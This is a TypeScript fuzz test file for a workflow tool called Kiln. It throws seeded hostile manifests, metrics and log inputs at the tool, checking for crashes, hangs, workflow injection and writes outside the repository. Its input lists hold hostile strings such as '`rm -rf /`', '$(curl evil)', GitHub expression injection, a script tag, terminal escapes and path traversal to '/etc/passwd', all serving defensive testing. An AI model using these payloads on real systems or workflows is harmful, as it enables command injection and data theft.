// The fuzzer: seeded, deterministic inputs of every kind a user or a step hands Kiln — manifests
// (near-valid, mutated, random) and step outputs (metrics JSON, series JSON lines, log chunks) —
// fed to the engine in-process, counting what must never happen:
// - a crash: an exception where a result or a diagnostic was due (the CLI would exit 2);
// - a hang: one input that takes longer than a generous budget (a loop that never ends hangs the
//   whole file, which fails it too);
// - an injection: a generated workflow whose structure or expressions came from the manifest;
// - an escape: a file written outside the repository, seen in the listing of a sentinel folder
//   around it after real `kiln run` / `kiln pull` / `kiln generate` runs.
// `npm test` runs a small seeded sample and prints its figures; `npm run stress` runs ≥ 10,000.
// KILN_FUZZ_SEED replays another sample; a failure prints the inputs that caused it.
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import fc from "fast-check";
import { afterAll, beforeEach, describe, expect, it } from "vitest";
import { parse as parseYaml, stringify } from "yaml";
import { OutputMasker, SecretMasker } from "../../src/domain/secret-mask.js";
import { MAX_LINE_BYTES } from "../../src/domain/text-limits.js";
import { formatDiagnostics } from "../../src/manifest/diagnostics.js";
import { parseManifest } from "../../src/manifest/load.js";
import { readMetrics, readSeries } from "../../src/run/metrics.js";
import { generateWorkflowFile } from "../../src/workflow/generate.js";
import { gitIn, kilnIn } from "../support/kiln-in-process.js";

const SEED = Number(process.env.KILN_FUZZ_SEED ?? 15_2026);
const MANIFESTS = Number(process.env.KILN_FUZZ_MANIFESTS ?? 400);
const STEP_OUTPUTS = Number(process.env.KILN_FUZZ_STEP_OUTPUTS ?? 300);
const RUNS = Number(process.env.KILN_FUZZ_RUNS ?? 2);
/** Far above what any single input needs; only a runaway loop gets near it. */
const HANG_MS = 10_000;

const figures = {
  manifests: 0,
  loaded: 0,
  stepOutputs: 0,
  runs: 0,
  crashes: 0,
  hangs: 0,
  injections: 0,
  escapes: 0,
};
const failures: string[] = [];

function fail(kind: "crashes" | "hangs" | "injections" | "escapes", input: string, why: string): void {
  figures[kind]++;
  if (failures.length < 10) failures.push(`${kind}: ${why}\n  input: ${JSON.stringify(input).slice(0, 400)}`);
}

function timed<T>(input: string, work: () => T): T {
  const started = performance.now();
  const result = work();
  if (performance.now() - started > HANG_MS) fail("hangs", input, `took over ${HANG_MS} ms`);
  return result;
}

// ---- manifests ----

/** Text that attacks each output format: shell, expressions, YAML, Markdown, HTML, terminals. */
const HOSTILE = [
  "${{ github.event.pull_request.title }}",
  "${{ inputs.evil }}",
  "`rm -rf /`",
  "$(curl evil)",
  '"; exit 1; "',
  "a\nb: injected",
  "x\n- injected",
  "<script>alert(1)</script>",
  "</details>",
  "@channel <!channel>",
  "![](http://track.example/p.png)",
  "\u001b[2J\u001b]0;title\u0007",
  "\u202eevil",
  "-->",
  "&a *a",
  "../../outside",
  "/etc/passwd",
  "💥",
  "",
];
/** Markers of expressions only the fuzzer writes: if one is in a workflow, the manifest put it there. */
const FOREIGN_EXPRESSION = /pull_request\.title|inputs\.evil/;
const WORKFLOW_KEYS = new Set(["name", "on", "concurrency", "permissions", "jobs"]);

const text = fc.oneof(fc.string({ maxLength: 40 }), fc.constantFrom(...HOSTILE));
const name = fc.oneof(
  { weight: 4, arbitrary: fc.stringMatching(/^[a-z][a-z0-9_-]{0,8}$/) },
  { weight: 1, arbitrary: text },
);
const condition: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  leaf: fc.oneof(
    fc.constantFrom(
      "eager",
      "on_missing",
      "manual",
      "missing",
      "stale",
      "code_changed",
      "deps_updated",
      "eagr",
    ),
    fc.record({
      on_cron: fc.constantFrom(
        "0 3 * * 1",
        "*/5 * * * *",
        "61 * * * *",
        "@weekly",
        "x",
        "${{ inputs.evil }}",
      ),
      tz: fc.constantFrom("UTC", "Europe/Berlin", "Mars/Olympus", "a\nb"),
    }),
  ),
  node: fc.oneof(
    { depthSize: "small" },
    tie("leaf"),
    fc.record({ all: fc.array(tie("node"), { maxLength: 3 }) }),
    fc.record({ any: fc.array(tie("node"), { maxLength: 3 }) }),
    fc.record({ not: tie("node") }),
  ),
})).node;
const asset = fc.record(
  {
    deps: fc.array(
      fc.oneof(
        name,
        name.map((n) => `${n}@champion`),
      ),
      { maxLength: 3 },
    ),
    run: text,
    "code-version": fc.constantFrom("1", "2"),
    code: fc.array(text, { maxLength: 2 }),
    inputs: fc.array(text, { maxLength: 2 }),
    outputs: fc.array(
      fc.oneof(fc.constantFrom("build/a", "build/b", "build/a/x", "../OUT", "/tmp/ABS"), text),
      {
        maxLength: 2,
      },
    ),
    config: fc.dictionary(text, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }),
    env: fc.dictionary(
      fc.constantFrom("A", "KILN_X", "bad name", "B"),
      fc.oneof(text, fc.record({ secret: text })),
      {
        maxKeys: 2,
      },
    ),
    automation: condition,
    timeout: fc.oneof(fc.constantFrom("30m", "2h", "0s", "forever"), fc.integer()),
    "runs-on": fc.oneof(text, fc.array(text, { maxLength: 2 })),
    metrics: fc.record({ primary: text, direction: fc.constantFrom("minimize", "maximize", "up") }),
    checks: fc.array(
      fc.record(
        { metric: fc.oneof(fc.constantFrom("mae < 70", "mae <<< 3"), text), blocking: fc.boolean() },
        { requiredKeys: [] },
      ),
      { maxLength: 2 },
    ),
    promote: fc.record(
      { alias: fc.oneof(fc.constant("champion"), text), "min-delta": fc.double() },
      { requiredKeys: [] },
    ),
    [text.toString()]: text,
  },
  { requiredKeys: [] },
);
const manifestObject = fc.record(
  {
    version: fc.oneof(fc.constant(1), fc.integer(), fc.string()),
    name: name,
    defaults: fc.record({ "runs-on": text, timeout: fc.constantFrom("30m", "x") }, { requiredKeys: [] }),
    setup: fc.array(
      fc.record(
        {
          run: text,
          uses: fc.constantFrom("actions/setup-python@v5", "${{ inputs.evil }}"),
          with: fc.dictionary(text, text, { maxKeys: 2 }),
        },
        { requiredKeys: [] },
      ),
      { maxLength: 2 },
    ),
    assets: fc.dictionary(name, asset, { maxKeys: 5 }),
    environments: fc.dictionary(
      name,
      fc.record({ branches: fc.array(text, { maxLength: 2 }) }, { requiredKeys: [] }),
      { maxKeys: 2 },
    ),
    alerts: fc.record(
      { "github-issue": fc.boolean(), slack: fc.record({ "webhook-secret": text }) },
      { requiredKeys: [] },
    ),
  },
  { requiredKeys: ["version", "assets"] },
);
const VALID = `version: 1
assets:
  data:
    code: [src/data.py]
    run: python src/data.py
    outputs: [build/data.csv]
  model:
    deps: [data]
    code-version: "3"
    run: python src/train.py
    outputs: [build/model.json]
    metrics: { primary: mae, direction: minimize }
    checks:
      - { metric: "mae < 70", blocking: true }
    promote: { alias: champion, min-delta: 0.5 }
    automation: { on_cron: "0 3 * * 1", tz: Europe/Berlin }
`;
/** The valid manifest with bytes cut, repeated or replaced: what the YAML parser and locator see. */
const mutated = fc
  .array(
    fc.tuple(
      fc.nat({ max: VALID.length }),
      fc.nat({ max: 40 }),
      fc.oneof(text, fc.constantFrom(":", "- ", "\n  ", "{", "[", "&x", "*x", "!!binary", "\t", "'", '"')),
    ),
    {
      minLength: 1,
      maxLength: 4,
    },
  )
  .map((edits) =>
    edits.reduce((source, [at, cut, insert]) => source.slice(0, at) + insert + source.slice(at + cut), VALID),
  );
/** The valid manifest with one value made hostile: most still load, so generation is fuzzed too. */
const oneField = fc
  .tuple(
    fc.constantFrom(
      "run",
      "runs-on",
      "code",
      "outputs",
      "config",
      "env",
      "checks",
      "code-version",
      "timeout",
    ),
    fc.oneof(
      text,
      fc.array(text, { minLength: 1, maxLength: 2 }),
      fc.dictionary(fc.constantFrom("A", "B_2"), text),
    ),
  )
  .map(([field, value]) => {
    const manifest = parseYaml(VALID) as { assets: { model: Record<string, unknown> } };
    manifest.assets.model[field] = value;
    return stringify(manifest);
  });
const manifestText = fc.oneof(
  { weight: 4, arbitrary: oneField },
  { weight: 5, arbitrary: manifestObject.map((m) => stringify(m)) },
  { weight: 3, arbitrary: mutated },
  { weight: 1, arbitrary: fc.string({ maxLength: 300 }) },
  { weight: 1, arbitrary: fc.jsonValue().map((v) => stringify(v)) },
);

function checkManifest(source: string): void {
  figures.manifests++;
  timed(source, () => {
    let result: ReturnType<typeof parseManifest>;
    try {
      result = parseManifest(source, { manifestPath: "/repo/kiln.yml", displayName: "kiln.yml" });
    } catch (error) {
      fail("crashes", source, `parseManifest threw: ${(error as Error).stack}`);
      return;
    }
    if (!result.ok) {
      if (result.error.length === 0) fail("crashes", source, "rejected without a diagnostic");
      for (const d of result.error) {
        if (d.location.file !== "kiln.yml" || typeof d.message !== "string" || /\n\s+at /.test(d.message))
          fail("crashes", source, `diagnostic without a position or with a stack: ${JSON.stringify(d)}`);
      }
      try {
        formatDiagnostics(result.error, { readSource: () => source });
      } catch (error) {
        fail("crashes", source, `printing the diagnostics threw: ${(error as Error).stack}`);
      }
      return;
    }
    figures.loaded++;
    let generated: ReturnType<typeof generateWorkflowFile>;
    try {
      generated = generateWorkflowFile(result.value.project, { manifestPath: "kiln.yml" });
    } catch (error) {
      fail("crashes", source, `generate threw: ${(error as Error).stack}`);
      return;
    }
    if (!generated.ok) return;
    const workflow = parseYaml(generated.text) as Record<string, unknown>;
    const keys = Object.keys(workflow ?? {});
    if (keys.some((key) => !WORKFLOW_KEYS.has(key)) || FOREIGN_EXPRESSION.test(generated.text))
      fail(
        "injections",
        source,
        `the workflow has keys ${keys.join(", ")} or an expression the manifest wrote`,
      );
  });
}

// ---- step outputs ----

const hugeString = fc.nat({ max: 3 }).map((n) => "x".repeat(10 ** (n + 3)));
const jsonish: fc.Arbitrary<unknown> = fc.oneof(
  fc.double(),
  fc.integer(),
  fc.constantFrom(null, true, "61.2", [], {}),
  text,
  hugeString,
  fc.jsonValue({ maxDepth: 3 }),
);
const metricsText = fc.oneof(
  fc
    .dictionary(fc.oneof(text, fc.constantFrom("mae", "val_loss"), hugeString), jsonish, { maxKeys: 5 })
    .map((o) => JSON.stringify(o)),
  fc
    .dictionary(
      fc.constantFrom("mae", "r2"),
      fc.constantFrom("NaN", "Infinity", "-Infinity", "1e999", "-0", "0x10", "1_0"),
    )
    .map(
      (o) =>
        `{${Object.entries(o)
          .map(([k, v]) => `"${k}": ${v}`)
          .join(", ")}}`,
    ),
  fc.string({ maxLength: 200 }),
  fc.jsonValue().map((v) => JSON.stringify(v)),
  fc.constantFrom(
    "{",
    '{"mae": 1',
    '{"a": {"b": {"c": 1}}}',
    "[1,2]",
    "\u0000",
    '{"mae": 1}\n{"mae": 2}',
    " ".repeat(1000),
  ),
);
const seriesLine = fc.oneof(
  fc
    .record(
      { step: fc.oneof(fc.integer(), fc.double(), fc.constant("3")), loss: jsonish },
      { requiredKeys: [] },
    )
    .map((o) => JSON.stringify(o)),
  fc.constantFrom(
    '{"step": 1, "loss": NaN}',
    '{"step": Infinity}',
    "",
    "   ",
    "{",
    "null",
    "[]",
    '{"step": 1}\r',
  ),
  fc.string({ maxLength: 80 }),
);
const seriesText = fc.array(seriesLine, { maxLength: 20 }).map((lines) => lines.join("\n"));
const logChunks = fc.array(
  fc.tuple(
    fc.constantFrom("stdout", "stderr"),
    fc.oneof(
      fc.string({ maxLength: 200 }),
      hugeString,
      fc.constantFrom("\n", "\r\n", "s3cr3t-", "value\n", "é"),
    ),
  ),
  { maxLength: 30 },
);

/** A step's error: one line, short enough for a record and an alert, whatever the step wrote. */
function checkStepError(input: string, error: string): void {
  if (error.includes("\n") || error.length > 1_000)
    fail("crashes", input, `an unbounded or multi-line error: ${error.slice(0, 200)}…`);
}

async function checkStepOutputs(
  dir: string,
  metrics: string,
  series: string,
  chunks: [string, string][],
): Promise<void> {
  figures.stepOutputs++;
  const input = JSON.stringify({ metrics: metrics.slice(0, 200), series: series.slice(0, 200) });
  const metricsFile = path.join(dir, "metrics.json");
  const seriesFile = path.join(dir, "series.jsonl");
  writeFileSync(metricsFile, metrics);
  writeFileSync(seriesFile, series);
  const started = performance.now();
  try {
    const read = await readMetrics("model", metricsFile);
    if (!read.ok) checkStepError(input, read.error);
    else
      for (const name of Object.keys({ ...read.value.values, ...read.value.notFinite }))
        if (name.length > 1_000)
          fail("crashes", input, `a metric name of ${name.length} characters was accepted into the record`);
  } catch (error) {
    fail("crashes", input, `readMetrics threw: ${(error as Error).stack}`);
  }
  try {
    const read = await readSeries("model", seriesFile);
    if (!read.ok) checkStepError(input, read.error);
  } catch (error) {
    fail("crashes", input, `readSeries threw: ${(error as Error).stack}`);
  }
  try {
    const lines: string[] = [];
    const masker = new OutputMasker(new SecretMasker(["s3cr3t-value"]), (line) => lines.push(line));
    for (const [stream, chunk] of chunks) masker.write(stream, chunk);
    masker.end();
    for (const line of lines) {
      if (line.includes("\n") || Buffer.byteLength(line) > MAX_LINE_BYTES + 100)
        fail("crashes", input, `a log line of ${Buffer.byteLength(line)} bytes or with a newline`);
      if (line.includes("s3cr3t-value")) fail("crashes", input, "a secret reached the log");
    }
  } catch (error) {
    fail("crashes", input, `the log writer threw: ${(error as Error).stack}`);
  }
  if (performance.now() - started > HANG_MS) fail("hangs", input, `took over ${HANG_MS} ms`);
}

// ---- writes outside the repository ----

/** Every path below `dir` with a hash of its content (or its kind), skipping `skip`. */
function listing(dir: string, skip: string): Map<string, string> {
  const found = new Map<string, string>();
  const walk = (at: string) => {
    for (const entry of readdirSync(at, { withFileTypes: true })) {
      const full = path.join(at, entry.name);
      if (full === skip) continue;
      if (entry.isDirectory()) {
        found.set(full, "dir");
        walk(full);
      } else if (entry.isFile()) found.set(full, createHash("sha1").update(readFileSync(full)).digest("hex"));
      else found.set(full, "other");
    }
  };
  walk(dir);
  return found;
}

const OUTPUT_PATHS = [
  "build/a.txt",
  "build/sub/b.txt",
  "../OUT",
  "../sentinel-file",
  "build/../../up.txt",
  "/ABS",
  "./c.txt",
  ".kiln/x",
  "build/ü.txt",
  "d/",
];
const runManifest = fc.record({
  outputs: fc.uniqueArray(fc.constantFrom(...OUTPUT_PATHS), { minLength: 1, maxLength: 3 }),
  code: fc.array(fc.constantFrom("**", "src/*.py", "../*", "/etc/hostname", ".kiln/**"), { maxLength: 2 }),
});

async function checkRun(sentinel: string, spec: { outputs: string[]; code: string[] }): Promise<void> {
  figures.runs++;
  const repo = path.join(sentinel, `repo-${figures.runs}`);
  mkdirSync(path.join(repo, "src"), { recursive: true });
  writeFileSync(path.join(repo, "src/train.py"), "print(1)\n");
  gitIn(repo, "init", "-q", "-b", "main");
  // The step writes its outputs where a manifest that refuses nothing would put them: inside the
  // repository only, so anything that later appears outside it was written by Kiln.
  const inside = spec.outputs.filter(
    (p) => !path.isAbsolute(p) && path.resolve(repo, p).startsWith(`${repo}${path.sep}`),
  );
  const abs = spec.outputs.map((p) => path.resolve(repo, p.replace(/^\//, `${sentinel}/`)));
  const run =
    inside
      .map((p) => `mkdir -p "$(dirname '${p}')" && echo built > '${p.replace(/\/$/, "/f")}'`)
      .join(" && ") || "true";
  writeFileSync(
    path.join(repo, "kiln.yml"),
    stringify({
      version: 1,
      assets: {
        model: {
          "code-version": "1",
          code: spec.code,
          run,
          outputs: spec.outputs.map((p) => p.replace(/^\//, `${sentinel}/`)),
        },
      },
    }),
  );
  gitIn(repo, "add", "-A");
  gitIn(repo, "commit", "-q", "-m", "fuzz");
  const before = listing(sentinel, repo);
  const input = JSON.stringify(spec);
  for (const args of [["run"], ["generate"], ["report", "-o", "report.md"]]) {
    const result = await kilnIn(repo, args);
    if (result.code === 2 || /internal error|\n\s+at /.test(result.output))
      fail("crashes", input, `kiln ${args[0]}: ${result.output.slice(-300)}`);
  }
  // Outputs gone from the workspace: `pull` restores them, from the store, at their declared paths.
  // What was outside before the run (the sentinel's own file among them) stays as it was.
  for (const file of [...inside.map((p) => path.resolve(repo, p)), ...abs.filter((p) => !before.has(p))])
    rmSync(file, { recursive: true, force: true });
  const pulled = await kilnIn(repo, ["pull", "--all"]);
  if (pulled.code === 2 || /internal error/.test(pulled.output))
    fail("crashes", input, `kiln pull: ${pulled.output.slice(-300)}`);
  const after = listing(sentinel, repo);
  for (const [file, hash] of after)
    if (before.get(file) !== hash) fail("escapes", input, `${file} was written outside the repository`);
  for (const file of before.keys()) if (!after.has(file)) fail("escapes", input, `${file} was removed`);
}

describe("the fuzzer", () => {
  afterAll(() => {
    console.log(
      `fuzz (seed ${SEED}): ${figures.manifests} manifests (${figures.loaded} valid), ${figures.stepOutputs} step outputs, ${figures.runs} runs in a sentinel folder; ${figures.crashes} crashes, ${figures.hangs} hangs, ${figures.injections} injections, ${figures.escapes} escapes`,
    );
  });

  beforeEach(() => {
    failures.length = 0;
  });

  it(`${MANIFESTS} manifests load or give positioned diagnostics, and valid ones generate a workflow they cannot inject into`, () => {
    for (const source of fc.sample(manifestText, { seed: SEED, numRuns: MANIFESTS })) checkManifest(source);
    expect(failures).toEqual([]);
    expect({ crashes: figures.crashes, hangs: figures.hangs, injections: figures.injections }).toEqual({
      crashes: 0,
      hangs: 0,
      injections: 0,
    });
    // The sample means something only if it reaches both sides of validation.
    expect(figures.loaded).toBeGreaterThan(MANIFESTS / 50);
    expect(figures.loaded).toBeLessThan(MANIFESTS);
  }, 600_000);

  it(`${STEP_OUTPUTS} step outputs (metrics, series, log chunks) give a value or a short one-line error`, async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), "kiln-fuzz-steps-"));
    const samples = fc.sample(fc.tuple(metricsText, seriesText, logChunks), {
      seed: SEED,
      numRuns: STEP_OUTPUTS,
    });
    for (const [metrics, series, chunks] of samples)
      await checkStepOutputs(dir, metrics, series, chunks as [string, string][]);
    expect(failures).toEqual([]);
    expect({ crashes: figures.crashes, hangs: figures.hangs }).toEqual({ crashes: 0, hangs: 0 });
  }, 600_000);

  it(`${RUNS} runs with hostile output and code paths write nothing outside the repository`, async () => {
    const sentinel = mkdtempSync(path.join(os.tmpdir(), "kiln-fuzz-sentinel-"));
    writeFileSync(path.join(sentinel, "sentinel-file"), "untouched\n");
    for (const spec of fc.sample(runManifest, { seed: SEED, numRuns: RUNS })) await checkRun(sentinel, spec);
    expect(failures).toEqual([]);
    expect({ crashes: figures.crashes, escapes: figures.escapes }).toEqual({ crashes: 0, escapes: 0 });
    expect(statSync(path.join(sentinel, "sentinel-file")).size).toBe(10);
  }, 600_000);
});
